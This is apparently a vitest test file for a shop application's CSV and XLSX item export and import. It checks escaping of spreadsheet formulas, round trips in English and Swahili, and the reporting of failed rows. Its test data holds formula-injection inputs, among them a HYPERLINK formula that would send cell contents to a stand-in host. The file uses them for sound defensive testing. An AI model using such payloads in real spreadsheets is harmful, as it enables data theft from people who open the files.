import { streamXlsxRows } from 'hucre/xlsx'
import { afterEach, describe, expect, it } from 'vitest'
import type { Item } from '../../../core/contract/item.ts'
import { setLanguage } from '../../../renderer/i18n/index.ts'
import { failedRows, formatOf } from '../../../renderer/screens/items/import/failedRows.ts'
import { columnsOf, readList } from '../../../renderer/screens/items/import/itemList.ts'
import { readFile } from '../../../renderer/screens/items/import/readFile.ts'
import { itemFields } from '../../../renderer/screens/items/itemFields.ts'
import { csvLine, neutral, withoutNeutral } from '../../../renderer/window/exporting/csvLine.ts'
import { type Field, type Format, spreadsheet } from '../../../renderer/window/exporting/spreadsheet.ts'

// What a person types, and what a CSV file says so that no spreadsheet calculates it.
const written: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://a.example?"&A1,"x")', '"\'=HYPERLINK(""http://a.example?""&A1,""x"")"'],
  ['+254 712', "'+254 712"],
  ['-Sugar', "'-Sugar"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
  ['-5', '-5'],
  ['+254712345678', '+254712345678'],
  ['-1.50', '-1.50'],
  ["'quoted", "'quoted"],
  ['a=b', 'a=b'],
  ['0012', '0012'],
  ['Maziwa, “Ng’ombe”', '"Maziwa, “Ng’ombe”"'],
  ['6" nail', '"6"" nail"'],
  ['two\nlines', '"two\nlines"'],
]

it.each(written)('writes %j so that a spreadsheet does not calculate it', (text, line) => {
  expect(csvLine([text])).toBe(`${line}\r\n`)
  expect(withoutNeutral(neutral(text))).toBe(text)
})

interface Row {
  name: string
  price: number
  at: number
}
const fields: Field<Row>[] = [
  { header: 'Name', kind: 'text', value: ({ name }) => name },
  { header: 'Price', kind: 'amount', value: ({ price }) => price },
  { header: 'Time', kind: 'moment', value: ({ at }) => at },
]
const rows: Row[] = [
  { name: '=1+1', price: 1250_50, at: Date.UTC(2026, 10, 20, 21, 5) },
  { name: '0012', price: -5_00, at: Date.UTC(2026, 10, 20) },
]
async function* pages() {
  yield rows
  yield [{ name: 'Ng’ombe <&"', price: 0, at: 0 }]
}

it('writes CSV with a mark of UTF-8, amounts as numbers and times on the shop’s clock', async () => {
  const file = await spreadsheet(pages(), { fields, title: 'Items', format: 'csv' })
  expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.arrayBuffer())).toBe(
    '\ufeffName,Price,Time\r\n\'=1+1,1250.50,2026-11-21 00:05\r\n0012,-5.00,2026-11-20 03:00\r\n"Ng’ombe <&""",0.00,1970-01-01 03:00\r\n',
  )
})

it('writes a workbook whose texts are texts and whose amounts are numbers', async () => {
  const file = await spreadsheet(pages(), { fields, title: 'A/B: items', format: 'xlsx' })
  const read = []
  for await (const { values } of streamXlsxRows(await file.arrayBuffer())) read.push(values)
  expect(read).toEqual([
    ['Name', 'Price', 'Time'],
    ['=1+1', 1250.5, '2026-11-21 00:05'],
    ['0012', -5, '2026-11-20 03:00'],
    ['Ng’ombe <&"', 0, '1970-01-01 03:00'],
  ])
})

it('leaves no file where a page could not be read', async () => {
  async function* broken() {
    yield rows
    throw new Error('cancelled')
  }
  for (const format of ['csv', 'xlsx'] as const)
    await expect(spreadsheet(broken(), { fields, title: 'Items', format })).rejects.toThrow('cancelled')
})

describe('exported items', () => {
  const item: Item = {
    id: 1,
    code: '00106',
    name: '=Ng’ombe, mbao',
    secondName: '-Maziwa',
    barcode: '0012345678905',
    category: '@Soko',
    type: '2',
    taxType: 'C',
    price: 1250_50,
    itemClass: '5313160900',
    classChosen: true,
    originCountry: 'KE',
    packageUnit: 'NT',
    quantityUnit: 'NO',
    active: true,
    favourite: false,
    onHand: -3_00,
    lowStock: 2_50,
    registration: 'registered',
    colour: null,
    picture: null,
    updatedAt: 0,
  }
  const same = {
    code: '00106',
    name: '=Ng’ombe, mbao',
    secondName: '-Maziwa',
    barcode: '0012345678905',
    category: '@Soko',
    type: '2',
    taxType: 'C',
    price: 1250_50,
    itemClass: '5313160900',
    quantityUnit: 'NO',
    lowStock: 2_50,
  }
  async function* page(items: Item[]) {
    yield items
  }
  const readBack = async (items: Item[], format: Format) => {
    const file = await spreadsheet(page(items), { fields: itemFields(), title: 'Items', format })
    const table = await readFile(new Uint8Array(await file.arrayBuffer()))
    if ('kind' in table) throw new Error(table.kind)
    return readList(table, columnsOf(table.headings))
  }
  afterEach(() => setLanguage('en'))

  it.each([
    ['csv', 'en'],
    ['csv', 'sw'],
    ['xlsx', 'en'],
    ['xlsx', 'sw'],
  ] as const)('are read back from %s in %s with each value as it was', async (format, language) => {
    setLanguage(language)
    expect(await readBack([item], format)).toEqual({ rows: [{ line: 2, row: same }], faults: [] })
  })

  it('have no class that nobody has chosen, and a service has no stock', async () => {
    const service: Item = {
      ...item,
      type: '3',
      classChosen: false,
      onHand: null,
      lowStock: null,
      quantityUnit: 'LTR',
    }
    const { itemClass, lowStock, ...rest } = same
    const rows = [{ line: 2, row: { ...rest, type: '3', quantityUnit: 'LTR' } }]
    expect(await readBack([service], 'xlsx')).toEqual({ rows, faults: [] })
  })
})

it.each(['xlsx', 'csv'] as const)('rows that failed come back as %s, with their reasons', async (format) => {
  const cells = { good: ['0012', 'Sugar', '5'], bad: ['0034', '=Ng’ombe, mbao', 'x'] }
  const list = {
    delimiter: format === 'xlsx' ? null : ';',
    headings: ['Barcode', 'Name', 'Price'],
    rows: [
      { line: 2, cells: cells.good },
      { line: 4, cells: cells.bad },
    ],
  }
  expect(formatOf(list)).toBe(format)
  const file = await failedRows(list, new Map([[4, 'Bei si sahihi.']]), {
    reason: 'Sababu',
    title: 'Mistari',
  })
  expect(await readFile(new Uint8Array(await file.arrayBuffer()))).toEqual({
    delimiter: list.delimiter,
    headings: ['Barcode', 'Name', 'Price', 'Sababu'],
    rows: [{ line: 2, cells: [...cells.bad, 'Bei si sahihi.'] }],
  })
})
